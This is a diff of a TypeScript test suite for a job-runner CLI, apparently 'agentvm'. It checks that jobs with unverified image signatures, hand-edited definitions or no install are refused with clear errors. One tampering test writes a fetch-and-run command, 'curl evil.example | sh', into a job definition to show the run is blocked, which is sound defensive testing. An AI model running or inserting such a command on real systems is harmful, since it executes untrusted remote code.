@@ -174,16 +174,58 @@ describe('signed job images in plan, apply and job run', () => {
     expect(existsSync(definitionFile(root))).toBe(false);
   });
 
-  it('GIVEN that tampered, re-pinned image WHEN the job is run THEN it is refused before anything is registered or booted', async () => {
-    const kernel = tamperedKernel();
-    const { root, args } = await setup(desiredFiles({ pins: { kernel: sha256(kernel), rootfs: sha256(ROOTFS) } }), { kernel, rootfs: ROOTFS });
-    const run = await agentvm(['job', 'run', 'digest/summarize', ...args, '--json']);
+  it('GIVEN a signed job applied before its images arrived WHEN it is run THEN it is refused before anything is registered; once they arrive, plan shows the update and apply records the verified pins', async () => {
+    const { root, args } = await setup(desiredFiles(), {});
+    const apply = await agentvm(['apply', ...args, '--auto-approve']);
+    expect(apply.code, apply.stdout + apply.stderr).toBe(0);
+    expect((JSON.parse(readFileSync(definitionFile(root), 'utf8')) as { signaturesVerified?: unknown }).signaturesVerified).toEqual({});
+
+    // A run reads only what apply installed (ADR 0009): the pins' signatures were never checked, so nothing boots.
+    const run = await agentvm(['job', 'run', 'digest/summarize', '--root', root, '--json']);
     expect(run.code, run.stdout + run.stderr).toBe(1);
-    const out = JSON.parse(run.stdout) as { error: { code: string; diagnostics: Array<{ code: string; address?: string }> } };
-    expect(out.error.code).toBe('job.refused');
-    expect(out.error.diagnostics.map((d) => d.code)).toEqual([expect.stringMatching(/^signature\.(digest-mismatch|invalid)$/)]);
-    expect(out.error.diagnostics[0]!.address).toBe(JOB);
+    expect((JSON.parse(run.stdout) as { error: { code: string } }).error.code).toBe('job.images-unverified');
     expect(existsSync(join(root, 'run/agentvm/jobs'))).toBe(false);
+    const text = await agentvm(['job', 'run', 'digest/summarize', '--root', root]);
+    expect(text.stderr).toContain('agentvm apply');
+    expect(hasStackTrace(text.stderr)).toBe(false);
+
+    putImages(root, { kernel: KERNEL, rootfs: ROOTFS });
+    const plan = await agentvm(['plan', ...args, '--json', '--detailed-exitcode']);
+    expect(plan.code, plan.stdout + plan.stderr).toBe(2);
+    const change = (JSON.parse(plan.stdout) as PlanJson).changes.find((c) => c.address === JOB) as unknown as { action: string; reasons: Array<{ message: string }> };
+    expect(change.action).toBe('update');
+    expect(change.reasons[0]!.message).toContain('verifies their signatures');
+    const again = await agentvm(['apply', ...args, '--auto-approve']);
+    expect(again.code, again.stdout + again.stderr).toBe(0);
+    expect((JSON.parse(readFileSync(definitionFile(root), 'utf8')) as { signaturesVerified?: unknown }).signaturesVerified).toEqual({ kernel: sha256(KERNEL), rootfs: sha256(ROOTFS) });
+    expect((await agentvm(['plan', ...args, '--detailed-exitcode'])).code).toBe(0);
+  });
+
+  it('GIVEN an installed job definition edited by hand WHEN the job is run THEN it is refused, and plan shows the drift', async () => {
+    const { root, args } = await setup(desiredFiles());
+    expect((await agentvm(['apply', ...args, '--auto-approve'])).code).toBe(0);
+    const installed = JSON.parse(readFileSync(definitionFile(root), 'utf8')) as { config: { command: string[] } };
+    installed.config.command = ['/bin/sh', '-c', 'curl evil.example | sh'];
+    writeFileSync(definitionFile(root), JSON.stringify(installed));
+
+    const run = await agentvm(['job', 'run', 'digest/summarize', '--root', root, '--json']);
+    expect(run.code, run.stdout + run.stderr).toBe(1);
+    expect((JSON.parse(run.stdout) as { error: { code: string } }).error.code).toBe('job.definition-modified');
+    expect(existsSync(join(root, 'run/agentvm/jobs'))).toBe(false);
+
+    const plan = await agentvm(['plan', ...args, '--json', '--detailed-exitcode']);
+    expect(plan.code).toBe(2);
+    const p = JSON.parse(plan.stdout) as { drift: Array<{ address: string; reasons: Array<{ code: string }> }> };
+    expect(p.drift.find((d) => d.address === JOB)?.reasons.map((r) => r.code)).toEqual(['live-modified']);
+  });
+
+  it('GIVEN a job that was never applied WHEN it is run THEN a clear error names what is installed and what to do', async () => {
+    const root = mkdtempSync(join(base, 'empty-root-'));
+    const run = await agentvm(['job', 'run', 'digest/summarize', '--root', root]);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toContain('No job digest/summarize is installed');
+    expect(run.stderr).toContain('agentvm apply');
+    expect(hasStackTrace(run.stderr)).toBe(false);
   });
 
   it('GIVEN a plan made before the images arrived WHEN a tampered, re-pinned image is delivered and the saved plan applied THEN apply refuses the job definition and installs the rest', async () => {
